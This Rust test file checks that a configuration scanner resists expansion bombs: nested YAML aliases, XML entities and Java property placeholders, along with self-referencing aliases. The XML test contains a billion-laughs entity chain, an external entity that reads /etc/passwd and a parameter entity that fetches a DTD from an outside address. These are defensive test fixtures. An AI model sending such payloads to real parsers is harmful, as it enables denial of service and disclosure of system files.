//! Texts that grow when they are read: aliases of YAML, entities of XML, placeholders.

use std::fmt::Write as _;

use super::{checked, few, over_limit, rules};

fn laughs(head: &str, form: &dyn Fn(usize, &str) -> String, reference: &dyn Fn(usize) -> String) -> String {
    let mut text = head.to_owned();
    for level in 1..30 {
        let all = vec![reference(level - 1); 10].join(",");
        text.push_str(&form(level, &all));
    }
    text
}

#[test]
fn aliases_of_yaml_do_not_multiply() {
    let head = "org: acme\ninstanceID: one\nvirtualhosts: []\na0: &a0 lol\n";
    let text =
        laughs(head, &|level, all| format!("a{level}: &a{level} [{all}]\n"), &|level| format!("*a{level}"));
    let merged =
        laughs(head, &|level, all| format!("a{level}: &a{level} {{<<: [{all}], k{level}: 1}}\n"), &|level| {
            if level == 0 { "{a: b}".to_owned() } else { format!("*a{level}") }
        });
    let report = checked(vec![("overrides.yaml", text.into_bytes())]);
    assert_eq!(over_limit(&report), ["overrides.yaml"], "{:?}", rules(&report));
    // Maps that are merged say the same keys again, and stay small.
    let report = checked(vec![("overrides.yaml", merged.into_bytes())]);
    assert_eq!(report.counts.files, 1);
    few(&report, 50);
}

#[test]
fn an_alias_within_itself_ends() {
    for text in ["a: &a [*a]\n", "a: &a {<<: *a}\n", "a: &a\n  b: &b [*a]\n  c: *b\n", "<<: &x\n  <<: *x\n"] {
        let text = format!("org: acme\ninstanceID: one\nvirtualhosts: []\n{text}");
        let report = checked(vec![("overrides.yaml", text.into_bytes())]);
        assert_eq!(report.counts.files, 1);
        few(&report, 50);
    }
}

#[test]
fn entities_of_xml_are_not_expanded() {
    let mut text = "<?xml version=\"1.0\"?>\n<!DOCTYPE Server [<!ENTITY a0 \"lol\">\n".to_owned();
    for level in 1..30 {
        let _ = writeln!(text, "<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    }
    text.push_str("<!ENTITY file SYSTEM \"file:///etc/passwd\">\n<!ENTITY % net SYSTEM \"http://192.0.2.1/x.dtd\"> %net;\n]>\n");
    text.push_str("<Server><Service><Connector port=\"443\" SSLEnabled=\"true\" keystoreFile=\"&a29;&file;\">&a29;&file;</Connector></Service></Server>\n");
    let report = checked(vec![("conf/server.xml", text.into_bytes())]);
    assert_eq!(report.counts.files, 1);
    let said = format!("{:?}", report.findings);
    assert!(said.len() < 100_000 && !said.contains("lollol") && !said.contains("root:"), "{said}");
}

#[test]
fn placeholders_of_java_do_not_multiply() {
    let mut text = "a0=lol\n".to_owned();
    for level in 1..40 {
        let _ = writeln!(text, "a{level}={}", format!("${{a{}}}", level - 1).repeat(10));
    }
    text.push_str("self=${self}\none=${two}\ntwo=${one}\n");
    text.push_str("server.ssl.key-store=${a39}${self}${one}\nserver.ssl.enabled=true\n");
    let report = checked(vec![("src/main/resources/application.properties", text.into_bytes())]);
    assert_eq!(report.counts.files, 1);
    assert!(format!("{:?}", report.findings).len() < 100_000);
}
